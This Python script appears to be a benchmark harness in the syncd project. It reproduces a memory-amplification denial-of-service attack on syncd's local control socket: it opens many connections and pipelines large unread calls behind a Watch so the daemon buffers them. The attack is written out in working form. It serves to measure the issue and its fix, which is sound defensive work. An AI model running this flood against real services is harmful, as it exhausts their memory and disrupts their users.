#!/usr/bin/env python3
"""The amplification attack on syncd's control socket (issue 39), one client for the
ControlFairness benchmark and scripts/heap-under-attack, so that both measure the same attack.

  control-attack.py SOCKET warm-up [N]                    # N times a Watch and a ~64 KiB call, replies read
  control-attack.py SOCKET attack [N] [CALLS] [SECONDS]   # N connections (default 16) each send a Watch,
                                                          # then pipeline CALLS calls (default 127) of ~64 KiB
                                                          # with non-blocking writes for SECONDS (default 5),
                                                          # never reading; CALLS 0 only holds the connections

The warm-up makes the attack's calls as a client that reads its replies: syncd pages its code out
when it goes quiet, and what any client's first calls of these kinds fault back in is not what
the attack makes it hold. Calls behind a Watch never run, so the attacker's are only buffered.
"""
import json
import socket
import sys
import time

CALL = json.dumps({"method": "io.syncd.GetStatus", "parameters": {"pad": "p" * (64 * 1024 - 200)}},
                  separators=(",", ":")).encode() + b"\0"
WATCH = b'{"method":"io.syncd.Watch","more":true}\0'


def answered(path, message):
    with socket.socket(socket.AF_UNIX) as s:
        s.connect(path)
        s.sendall(message)
        reply = b""
        while not reply.endswith(b"\0"):
            chunk = s.recv(65536)
            if not chunk:
                sys.exit(f"syncd closed the connection before answering {message[:40]!r}")
            reply += chunk


def warm_up(path, count):
    for _ in range(count):
        answered(path, WATCH)
        answered(path, CALL)


def attack(path, connections, calls, seconds):
    sockets = []
    for _ in range(connections):
        s = socket.socket(socket.AF_UNIX)
        s.connect(path)
        s.sendall(WATCH)
        s.setblocking(False)
        sockets.append([s, 0, 0])
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        for entry in sockets:
            s, offset, sent = entry
            if sent >= calls:
                continue
            try:
                offset += s.send(CALL[offset:])
                if offset == len(CALL):
                    offset, sent = 0, sent + 1
                entry[1], entry[2] = offset, sent
            except BlockingIOError:
                pass
            except OSError:
                entry[2] = calls  # closed by syncd for flooding
        time.sleep(0.001)


if __name__ == "__main__":
    if len(sys.argv) < 3 or sys.argv[2] not in ("warm-up", "attack"):
        sys.exit(__doc__)
    path, numbers = sys.argv[1], [int(argument) for argument in sys.argv[3:]]
    if sys.argv[2] == "warm-up":
        warm_up(path, *(numbers[:1] or [16]))
    else:
        attack(path, *(numbers + [16, 127, 5][len(numbers):]))
